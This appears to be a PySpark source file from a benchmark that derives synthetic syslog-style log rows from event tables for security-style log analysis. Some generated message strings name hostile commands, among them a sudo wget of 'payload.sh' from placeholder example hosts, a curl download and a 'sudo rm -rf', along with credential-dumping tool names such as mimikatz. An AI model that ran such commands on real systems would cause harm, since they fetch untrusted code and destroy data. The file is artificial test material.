"""Log view over the benchmark tables.

The given tables have no log table, so log rows are derived from ``events`` (and, for text-heavy
operators, from ``documents`` and ``pages``). The expressions below are plain SQL that Spark and
other engines read alike; every log row comes from one table row.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from emberwatch.sources.tables import spread

_BASE = {
    "e": "event_id",
    "u": "user_id",
    "t": "event_type",
    "v": "value",
    "ts": "CAST(ts AS TIMESTAMP)",
    "iso": "concat(replace(CAST(ts AS STRING), ' ', 'T'), 'Z')",
    "k": "CAST(regexp_extract(props, '([0-9]+)', 1) AS INT)",
    "ip": "CASE WHEN event_id % 3 = 0 THEN '10.0.0.7' ELSE concat('10.0.0.', user_id % 40) END",
}

_MESSAGE = """CASE
  WHEN e % 53 = 0 THEN NULL
  WHEN t = 'error' AND k < 60 THEN concat('Failed password login for u', u, ' from ', ip, ' port ', 1024 + k * 7, ' ssh2')
  WHEN t = 'error' AND k < 80 THEN concat('ERROR 503 upstream exception for u', u, ' from ', ip)
  WHEN t = 'error' THEN concat('access denied: forbidden path for User u', u, ' from ', ip)
  WHEN t = 'signup' AND k < 80 THEN concat('Accepted password login for u', u, ' from ', ip, ' port 22')
  WHEN t = 'signup' THEN concat('successful login of user u', u, ' from ', ip)
  WHEN t = 'purchase' AND k % 10 < 3 THEN concat('sudo command executed: wget http://cdn', k % 5, '.example.net/payload.sh by user u', u)
  WHEN t = 'purchase' AND k % 10 = 3 THEN concat('sudo rm -rf /var/tmp/', k, ' requested by user u', u)
  WHEN t = 'purchase' AND k % 10 = 4 THEN concat('bash shell: curl -O http://mirror', k % 3, '.example.org/tool, user u', u)
  WHEN t = 'purchase' THEN concat('command shell opened with elevated rights by user u', u)
  WHEN t = 'view' AND e % 4 = 0 THEN concat('file read access /srv/data/f', k % 30, '.txt, ', CAST(floor(v * 10) AS BIGINT), ' KB for u', u)
  WHEN t = 'view' THEN concat('file read access /srv/data/f', k % 30, '.txt for u', u)
  WHEN k < 40 THEN concat('TCP connection from ', ip, ' to 192.0.2.', k % 25, ' port ', 1 + k * 13)
  WHEN k < 60 THEN concat('DNS query host', k, '.example.org from ', ip)
  WHEN k < 90 THEN concat('HTTP request from ', ip, ' to 192.0.2.', k % 25, ' port 8081')
  ELSE concat('network connect ', ip, ' > 198.51.100.', u % 5)
END"""

_NORMALIZED = """concat(
  '{"appname":"', t, '"',
  CASE WHEN e % 97 = 0 THEN concat(',"timestamp":"', iso, '"') ELSE '' END,
  CASE WHEN e % 10 < 6 THEN concat(',"source_ip":"', ip, '"')
       WHEN e % 10 = 6 THEN ',"source_ip":null'
       WHEN e % 10 = 7 THEN concat(',"src_ip":"', ip, '"') ELSE '' END,
  CASE WHEN e % 7 < 4 THEN concat(',"user":"u', u, '"') WHEN e % 7 = 4 THEN ',"user":null' ELSE '' END,
  CASE WHEN t = 'click' THEN concat(
       ',"dest_ip":"', CASE WHEN k < 90 THEN concat('192.0.2.', k % 25) ELSE concat('198.51.100.', u % 5) END,
       '","', CASE WHEN k % 10 = 9 THEN 'port' ELSE 'dest_port' END, '":',
       CASE WHEN k < 40 THEN 1 + k * 13 WHEN k < 60 THEN 53 WHEN k < 70 THEN 8080 WHEN k < 80 THEN 4444 WHEN k < 90 THEN 8081 ELSE 443 END,
       ',"protocol":"', CASE WHEN k < 40 THEN 'tcp' WHEN k < 60 THEN 'dns' WHEN k < 90 THEN 'http' ELSE 'https' END,
       '","dest_ip_type":"', CASE WHEN k < 90 THEN 'external' ELSE 'internal' END,
       '","domain":"host', k, '.Example.org"') ELSE '' END,
  CASE WHEN t = 'click' AND k >= 60 THEN concat(',"url":"http://192.0.2.', k % 25, ':8081/index"') ELSE '' END,
  CASE WHEN t = 'click' OR (t = 'view' AND e % 4 <> 0) THEN concat(',"bytes":', CAST(floor(v * 100000) AS BIGINT)) ELSE '' END,
  CASE WHEN t = 'view' THEN concat(',"resource":"/srv/data/f', k % 30, '","action":"read"') ELSE '' END,
  CASE WHEN t = 'purchase' AND k < 50 THEN ',"event_type":"process_creation"' ELSE '' END,
  CASE WHEN t = 'purchase' THEN concat(',"process_name":"',
       CASE k % 10 WHEN 0 THEN 'mimikatz.exe' WHEN 1 THEN 'procdump.exe' ELSE 'bash' END, '"') ELSE '' END,
  CASE WHEN t = 'purchase' AND k % 4 = 0 THEN concat(',"file_hash":"', md5(concat('file', k)), '"') ELSE '' END,
  CASE WHEN t = 'signup' THEN concat(
       ',"source_ip_type":"', CASE WHEN u % 2 = 0 THEN 'external' ELSE 'internal' END,
       '","user_type":"', CASE WHEN u % 5 = 0 THEN 'privileged' ELSE 'normal' END, '"') ELSE '' END,
  '}')"""

_LOG = {
    "id": "concat('log-', e)",
    "timestamp": "CASE WHEN e % 97 = 0 THEN 'not-a-time' WHEN e % 89 = 0 THEN NULL ELSE iso END",
    "raw": "concat('<', k, '> ', t, ' u', u, ' ', coalesce(message, ''))",
    "appname": "t",
    "file": "concat('/var/log/', t, '.log')",
    "host": "CASE WHEN e % 31 = 0 THEN NULL ELSE concat('server-', e % 20) END",
    "hostname": "concat('server-', e % 20, '.internal')",
    "message": "message",
    "procid": "1000 + k",
    "source_type": "'syslog'",
    "normalized": "normalized",
    "metadata": "concat('{\"environment\":\"', CASE WHEN e % 2 = 0 THEN 'prod' ELSE 'test' END, '\",\"region\":\"r', u % 3, '\"}')",
    "ingestion_time": "ts",
}

_DOCUMENT = {
    "id": "concat('doc-', doc_id)",
    "timestamp": "CAST(NULL AS STRING)",
    "raw": "CAST(NULL AS STRING)",
    "appname": "lang",
    "file": "CAST(NULL AS STRING)",
    "host": "source",
    "hostname": "CAST(NULL AS STRING)",
    "message": "text",
    "procid": "CAST(NULL AS INT)",
    "source_type": "'document'",
    "normalized": "CAST(NULL AS STRING)",
    "metadata": "CAST(NULL AS STRING)",
    "ingestion_time": "CAST('2024-01-01 00:00:00' AS TIMESTAMP)",
}

_PAGE = {
    **_DOCUMENT,
    "id": "concat('page-', page_id)",
    "appname": "'web'",
    "host": "CAST(NULL AS STRING)",
    "message": "html",
    "source_type": "'page'",
    "normalized": "concat('{\"url\":\"', url, '\"}')",
}


def _select(parts: dict[str, str]) -> list[str]:
    return [f"{expr} AS {name}" for name, expr in parts.items()]


def _sql(parts: dict[str, str], source: str, more: str = "") -> str:
    return f"SELECT {more}{', '.join(_select(parts))} FROM {source}"


_TEXT = {"message": _MESSAGE, "normalized": _NORMALIZED}
EVENT_LOG_SQL = _sql(_LOG, f"({_sql(_TEXT, f'({_sql(_BASE, 'events')}) b', '*, ')}) m")
DOCUMENT_LOG_SQL = _sql(_DOCUMENT, "documents")
PAGE_LOG_SQL = _sql(_PAGE, "pages")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def logs_from_events(events: DataFrame) -> DataFrame:
    """Works on a batch or a streaming frame of the events table."""
    base = events.selectExpr(*_select(_BASE))
    return base.selectExpr("*", *_select(_TEXT)).selectExpr(*_select(_LOG))


def event_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    return logs_from_events(spread(table(spark, sf_dir, "events")))


def text_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents and pages as logs: long free text in ``message``."""
    docs = spread(table(spark, sf_dir, "documents")).selectExpr(*_select(_DOCUMENT))
    pages = spread(table(spark, sf_dir, "pages")).selectExpr(*_select(_PAGE))
    return docs.unionByName(pages)
